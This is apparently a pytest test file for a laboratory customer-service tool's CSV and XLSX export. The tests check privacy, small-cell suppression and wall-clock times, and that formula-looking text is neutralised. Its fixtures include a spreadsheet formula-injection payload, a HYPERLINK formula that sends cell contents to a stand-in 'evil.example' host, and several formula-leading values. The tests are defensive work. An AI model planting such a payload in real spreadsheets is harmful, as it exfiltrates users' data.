"""``qse-customer export --format csv|xlsx``: the report's tables as spreadsheets, made from the
same report as ``check`` (its privacy and small-cell rules), times on the lab's wall clock, and
no text a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import qse_customer as qse
from qse_customer.cli.main import main
from qse_customer.reports import _xlsx
from qse_customer.reports._csv import write_csv
from qse_customer.reports._xlsx import write_xlsx, xlsx_text
from qse_customer.reports.tables import TABLE_NAMES, Column, Table, formula_like, writable

openpyxl = pytest.importorskip("openpyxl")

LONDON = ZoneInfo("Europe/London")
STAFF = qse.Actor("t-1", "Tara Tech", qse.Role.TECHNOLOGIST)
QM = qse.Actor("qm", "Quinn Manager", qse.Role.QUALITY_MANAGER)
MONDAY = datetime(2026, 7, 6, 8, 0, tzinfo=UTC)  # 09:00 in London (summer time)
AT = "2026-07-20T12:00:00+00:00"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DANGEROUS = (HYPERLINK, "+1", "-2", "@x")
SUBMITTER = "Nora Named"
ANONYMOUS_WORDS = "the night porter in ward 7"


def _call(received: datetime, answered_after: timedelta, id: str) -> qse.Enquiry:
    enquiry = qse.Enquiry.receive(id=id, at=received, by=STAFF, channel="telephone")
    return enquiry.add("responded", at=received + answered_after, by=STAFF)


def _complaint(n: int, group: str, **fields: Any) -> qse.Complaint:
    return qse.Complaint.receive(
        id=f"C-{n}",
        at=MONDAY + timedelta(hours=n),
        by=STAFF,
        channel="form",
        category="delay",
        customer_group=group,
        site="Main laboratory",
        **fields,
    )


def _survey(responses: int) -> list[qse.Record]:
    survey = qse.Survey.create(
        id="S-1", at=MONDAY, by=QM, title="@ward survey", audience="internal", instrument="csat"
    ).add("approved", at=MONDAY, by=QM)
    survey = survey.add("conducted", at=MONDAY + timedelta(days=1), by=QM, invited=6)
    answers = [
        qse.SurveyResponse.submit(
            id=f"S-1-R{n}",
            at=MONDAY + timedelta(days=2, hours=n),
            survey_id="S-1",
            instrument="csat",
            answers={"satisfaction": 1 + n % 5},
        )
        for n in range(responses)
    ]
    return [survey, *answers]


@pytest.fixture
def store(tmp_path: Path) -> str:
    """Two enquiries (one answered late: a breach), complaints whose customer groups look like
    formulas (two of one group: a small cell), an anonymous complaint with its complainant's
    words, a named one with its submitter, and a survey of three responses."""
    records: list[qse.Record] = [
        _call(MONDAY, timedelta(hours=3), "ENQ-1"),
        _call(MONDAY, timedelta(days=6), "ENQ-2"),
    ]
    n = 0
    for group, count in ((HYPERLINK, 2), ("+1", 6), ("-2", 7), ("@x", 8)):
        for _ in range(count):
            n += 1
            records.append(_complaint(n, group))
    records.append(_complaint(90, "Wards", anonymous=True, summary=ANONYMOUS_WORDS))
    records.append(
        _complaint(91, "Wards", submitter=qse.Submitter(name=SUBMITTER), summary="named words")
    )
    records.extend(_survey(3))
    url = f"sqlite:///{tmp_path / 'lab.db'}"
    with qse.open_store(url) as opened:
        opened.save_many(records, legacy=True)
    return url


def _args(url: str, *extra: str) -> list[str]:
    return [
        "export",
        "--store",
        url,
        "--ruleset",
        "customer-service-standards",
        "--at",
        AT,
        *extra,
    ]


def _report(url: str, tmp_path: Path) -> dict[str, Any]:
    target = tmp_path / "report.json"
    check = ["check", "--store", url, "--ruleset", "customer-service-standards", "--at", AT]
    assert main([*check, "--format", "json", "--output", str(target)]) == 1
    report: dict[str, Any] = json.loads(target.read_text("utf-8"))
    return report


def _sheet(book: Any, name: str) -> list[dict[str, Any]]:
    rows = list(book[name].iter_rows())
    headings = [cell.value for cell in rows[0]]
    return [dict(zip(headings, row, strict=True)) for row in rows[1:]]


def test_xlsx_has_a_sheet_a_table_with_the_reports_values(store: str, tmp_path: Path) -> None:
    report = _report(store, tmp_path)
    target = tmp_path / "focus.xlsx"
    assert main(_args(store, "--format", "xlsx", "--output", str(target))) == 0
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == list(TABLE_NAMES)

    # the breach register: ENQ-2, due on the lab's wall clock as a real date
    (breach,) = _sheet(book, "breaches")
    (expected,) = report["breaches"]
    assert breach["record"].value == "ENQ-2" and breach["rule"].value == expected["rule_id"]
    due = breach["due (Europe/London)"]
    assert due.is_date and isinstance(due.value, datetime)
    local = datetime.fromisoformat(expected["due_at"]).astimezone(LONDON)
    assert due.value == local.replace(tzinfo=None)
    assert local.utcoffset() == timedelta(hours=1)  # summer time: not the UTC wall clock
    assert breach["message"].value == expected["message"]

    # compliance per rule: numbers stay numbers
    rules = {row["rule"].value: row for row in _sheet(book, "compliance")}
    for rule in report["standards"]["rules"]:
        row = rules[rule["rule_id"]]
        assert row["breached"].value == rule["breached"] and row["met"].value == rule["met"]
        assert row["share met"].value == rule["share_met"]
        assert row["breached"].data_type == "n"

    # complaints: every group that looks like a formula is text; the small cell as reported
    complaints = _sheet(book, "complaints")
    groups = {row["group"].value: row["complaints"] for row in complaints[:-1][:5]}
    reported = report["complaints"]["by_customer_group"]
    for row in reported["rows"]:
        cell = groups[row["customer_group"]]
        assert cell.value == (row["count"] if row["count"] is not None else row["shown"])
    assert groups[HYPERLINK].value == "fewer than 5"
    for row in complaints:
        assert row["group"].data_type == "s"
    for text in DANGEROUS:
        (cell,) = [row["group"] for row in complaints if row["group"].value == text]
        assert cell.data_type == "s" and cell.quotePrefix

    # the survey of 3 responses shows no results, as in the report
    (survey,) = _sheet(book, "surveys")
    assert survey["title"].value == "@ward survey" and survey["title"].data_type == "s"
    assert survey["responses"].value == "fewer than 5"
    assert survey["mean"].value is None and survey["response rate"].value is None

    about = {row["item"].value: row["value"].value for row in _sheet(book, "about")}
    assert about["time zone of every time in this workbook"] == "Europe/London"
    assert about["breached findings (true total)"] == 1
    assert about["judged at (Europe/London)"] == datetime(2026, 7, 20, 13, 0)


def _every_text(book: Any) -> str:
    return "\n".join(
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    )


def test_no_submitter_or_complainants_words_in_any_table(store: str, tmp_path: Path) -> None:
    workbook, folder = tmp_path / "focus.xlsx", tmp_path / "tables"
    assert main(_args(store, "--format", "xlsx", "--output", str(workbook))) == 0
    assert main(_args(store, "--format", "csv", "--output", str(folder))) == 0
    texts = [_every_text(openpyxl.load_workbook(workbook))]
    texts += [path.read_text("utf-8-sig") for path in folder.glob("*.csv")]
    for text in texts:
        assert SUBMITTER not in text and ANONYMOUS_WORDS not in text and "named words" not in text


def test_csv_writes_a_file_a_table_formulas_quoted(store: str, tmp_path: Path) -> None:
    report = _report(store, tmp_path)
    folder = tmp_path / "tables"
    assert main(_args(store, "--format", "csv", "--output", str(folder))) == 0
    assert sorted(path.stem for path in folder.iterdir()) == sorted(TABLE_NAMES)
    raw = (folder / "breaches.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    (breach,) = csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))
    local = datetime.fromisoformat(report["breaches"][0]["due_at"]).astimezone(LONDON)
    assert breach["due (Europe/London)"] == local.isoformat()
    assert breach["due (Europe/London)"].endswith("+01:00")
    complaints = list(csv.reader(io.StringIO((folder / "complaints.csv").read_text("utf-8-sig"))))
    groups = {row[1]: row[2] for row in complaints[1:]}
    assert groups["'" + HYPERLINK] == "fewer than 5"
    assert {"'+1", "'-2", "'@x"} <= set(groups)
    assert not any(group.startswith(("=", "+", "-", "@")) for group in groups)
    assert groups["total"] == "25"  # numbers stay numbers: the true total, unquoted


def test_one_csv_table_goes_to_stdout(store: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(_args(store, "--format", "csv", "--table", "surveys")) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0][:2] == ["survey", "title"] and rows[1][:2] == ["S-1", "'@ward survey"]


def test_the_jsonl_export_is_still_the_default(store: str, tmp_path: Path) -> None:
    target = tmp_path / "records.jsonl"
    assert main(["export", "--store", store, "--type", "enquiry", "--output", str(target)]) == 0
    assert [json.loads(line)["id"] for line in target.read_text().splitlines()] == [
        "ENQ-1",
        "ENQ-2",
    ]


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--format", "csv", "--type", "complaint"], "--type is an option of --format jsonl"),
        (["--ruleset", "qse2-responsibility"], "--ruleset is an option of --format csv or xlsx"),
        (["--format", "xlsx", "--output", "x.xlsx"], "give the rulesets"),
        (["--format", "xlsx", "--ruleset", "qse2-responsibility"], "--output FILE"),
        (["--format", "csv", "--ruleset", "qse2-responsibility"], "--output DIR"),
    ],
)
def test_options_of_the_other_format_are_bad_input(
    store: str, extra: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--store", store, *extra]) == 2
    assert message in capsys.readouterr().err


def test_without_openpyxl_the_message_names_the_extra(
    store: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(_xlsx, "xlsx_available", lambda: False)
    target = tmp_path / "focus.xlsx"
    assert main(_args(store, "--format", "xlsx", "--output", str(target))) == 2
    assert "pip install 'qse-customer[xlsx]'" in capsys.readouterr().err
    assert not target.exists()


def _one_cell(text: str) -> Table:
    return Table("t", "one cell", (Column("text"),), ((text,),))


@settings(max_examples=200)
@given(st.text(max_size=40) | st.sampled_from(DANGEROUS).map(lambda s: s + "x"))
def test_any_text_is_written_as_the_same_text_never_a_formula(text: str) -> None:
    shown = xlsx_text(text)  # only characters no XLSX can hold are escaped (see below)
    stream = io.BytesIO()
    write_xlsx([_one_cell(text)], stream)
    cell = openpyxl.load_workbook(io.BytesIO(stream.getvalue()))["t"]["A2"]
    assert cell.data_type == "s" or (shown == "" and cell.value is None)
    assert (cell.value or "") == shown
    assert cell.quotePrefix == formula_like(shown)

    shown = writable(text)
    buffer = io.StringIO(newline="")
    write_csv(_one_cell(text), buffer)
    (_, (read,)) = csv.reader(io.StringIO(buffer.getvalue().removeprefix("\ufeff"), newline=""))
    assert read == ("'" + shown if formula_like(shown) else shown)
    assert not formula_like(read)


@given(
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\ufffe")
    ).filter(lambda text: not any(ch < " " and ch not in "\t\n\r" for ch in text))
)
def test_text_a_spreadsheet_can_hold_is_written_unchanged(text: str) -> None:
    assert writable(text) == text


def test_control_characters_are_shown_escaped() -> None:
    assert writable("a\x1b[31mb\x00\ud800") == "a\\x1b[31mb\\x00\\ud800"
    assert xlsx_text("one\r\ntwo\rthree\n") == "one\ntwo\nthree\n"
